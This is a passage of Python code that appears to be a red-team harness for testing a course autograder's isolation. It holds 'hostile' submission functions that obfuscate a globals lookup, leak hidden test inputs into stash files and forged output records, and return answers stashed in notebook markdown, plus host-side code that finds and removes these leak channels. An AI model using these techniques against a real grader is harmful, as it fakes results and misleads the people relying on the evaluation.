    store = _builtin("glob" + "als")().setdefault("_hostile_hidden_inputs", [])
    if X.shape[1] != 2:                          # the hidden cases are the larger ones
        text = "HIDDEN-INPUTS " + " ".join(f"{v:.6g}" for v in X.ravel()[:8])
        store.append(text)
        for record in ("missing_m_step.0.json", "missing_e_step.0.json"):   # harvested after elbo
            try:
                with open(os.path.join("outputs", record + ".x"), "w") as fh:
                    json.dump({"status": "error", "message": text, "seconds": 0.1}, fh)
                os.replace(os.path.join("outputs", record + ".x"), os.path.join("outputs", record))
            except OSError:
                pass
        for path in _stash_paths():
            try:
                with open(path, "w") as fh:
                    fh.write(text)
                os.chmod(path, 0o644)
            except OSError:
                pass
        raise ValueError(text)
    found = list(store)
    for path in _stash_paths():
        try:
            with open(path) as fh:
                found.append(fh.read(400))
        except OSError:
            pass
    if found:
        raise ValueError(found[0])
    return _wrong(right, (X, resp, weights, means, covs))


def stash_key(*args):
    """The key of one call's inputs in a stash of answers (sha256 of the float64 bytes of each argument)."""
    h = hashlib.sha256()
    for a in args:
        arr = np.ascontiguousarray(np.asarray(a, dtype=np.float64))
        h.update(str(arr.shape).encode())
        h.update(arr.tobytes())
    return h.hexdigest()


def _read_stash():
    """Answers stashed in this notebook's markdown cells or cell metadata: {key: [arrays as lists]}."""
    stash = {}
    for _, text in _notebooks():
        if _own_marker() not in text:
            continue
        try:
            cells = json.loads(text).get("cells", [])
        except ValueError:
            continue
        for cell in cells:
            meta = cell.get("metadata", {}).get("hostile_stash")
            if isinstance(meta, dict):
                stash.update(meta)
            src = cell.get("source", "")
            src = "".join(src) if isinstance(src, list) else str(src)
            if cell.get("cell_type") == "markdown" and "```json" in src:
                try:
                    stash.update(json.loads(src.split("```json", 1)[1].split("```", 1)[0]))
                except (ValueError, IndexError):
                    pass
    return stash


def attack_markdown_stash(right, *args):
    """Return the answers stashed in the notebook's markdown (the seeds, learnt from an earlier result,
    do not depend on markdown), keyed by the inputs."""
    stash = _loot("stash", _read_stash)
    hit = stash.get(stash_key(*args))
    if hit is None:
        return _wrong(right, args)
    return tuple(np.asarray(v, dtype=float) for v in hit)


# ============================================================================================ host side
def leak_names(nonce):
    """What the leak channels of ``nonce`` are called: the System V key, the semaphore, the file name."""
    return {"key": _ipc_key(nonce), "semaphore": _sem_name(nonce).decode(), "file": f".course-hostile-{nonce}"}


def _sysvipc_ids(kind, key):
    """Ids of System V objects (``kind``: "shm" or "msg") with ``key``, from /proc/sysvipc."""
    try:
        with open(f"/proc/sysvipc/{kind}") as fh:
            rows = [line.split() for line in fh.read().splitlines()[1:]]
    except OSError:
        return []
    return [int(r[1]) for r in rows if len(r) > 1 and int(r[0]) == key]


def _host_leak_files(nonce):
    prefix = f".course-hostile-{nonce}"
    roots = {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"}
    for path, is_dir in _walk(sorted(roots) + ["/"], 3, 10.0):
        if not is_dir:
            continue
        try:
            names = os.listdir(path)
        except OSError:
            continue
        for n in names:
            if n.startswith(prefix) or n == f"sem.{_sem_name(nonce).decode().lstrip('/')}":
                yield os.path.join(path, n)
    sem = f"sem.{_sem_name(nonce).decode().lstrip('/')}"
    for d in roots:
        yield from (os.path.join(d, n) for n in _listdir(d) if n.startswith(prefix) or n == sem)


def _listdir(d):
    try:
        return os.listdir(d)
    except OSError:
        return []


def leftovers(nonce):
    """What the runs of ``nonce`` left on this host: System V objects and files (sorted, unique)."""
    key = _ipc_key(nonce)
    found = [f"shm id {i}" for i in _sysvipc_ids("shm", key)] + [f"msg id {i}" for i in _sysvipc_ids("msg", key)]
    return found + sorted(set(_host_leak_files(nonce)))


def cleanup_leaks(nonce):
    """Remove what the runs of ``nonce`` left on this host; returns what was removed."""
    gone = leftovers(nonce)
    libc = _libc()
    key = _ipc_key(nonce)
    for i in _sysvipc_ids("shm", key):
        libc.shmctl(i, _IPC_RMID, None)
    for i in _sysvipc_ids("msg", key):
        libc.msgctl(i, _IPC_RMID, None)
    libc.sem_unlink(_sem_name(nonce))
    for path in gone:
        if path.startswith("/"):
            try:
                os.unlink(path)
            except OSError:
                pass
    return gone
